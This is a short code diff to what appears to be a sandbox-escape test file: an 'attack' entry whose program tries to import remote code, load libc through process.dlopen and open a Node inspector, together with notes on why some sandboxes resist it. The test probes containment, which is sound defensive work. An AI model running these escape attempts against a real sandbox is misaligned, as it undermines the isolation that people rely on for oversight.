@@ -1,5 +1,5 @@
 // If this worked: a program in JavaScript would climb from its own realm into the host's process and use its modules.
-import type { Attack } from '../attack.ts';
+import { type Attack, ENGINE_GAP } from '../attack.ts';
 
 export const attack: Attack = {
   programs: [
@@ -66,7 +66,10 @@ await attempt('remote import', () => import('https://example.com/x.js'));
 await attempt('dlopen', () => process.dlopen({ exports: {} }, '/lib/x86_64-linux-gnu/libc.so.6') ?? null);
 await attempt('inspector', () => { const i = require('node:inspector'); i.open(0); return i.url(); });
 `,
-      not: { bubblewrap: 'There is no Deno behind that wall, and an inspector on its own loopback is its own' },
+      not: {
+        ...ENGINE_GAP,
+        bubblewrap: 'There is no Deno behind that wall, and an inspector on its own loopback is its own',
+      },
     },
   ],
 };
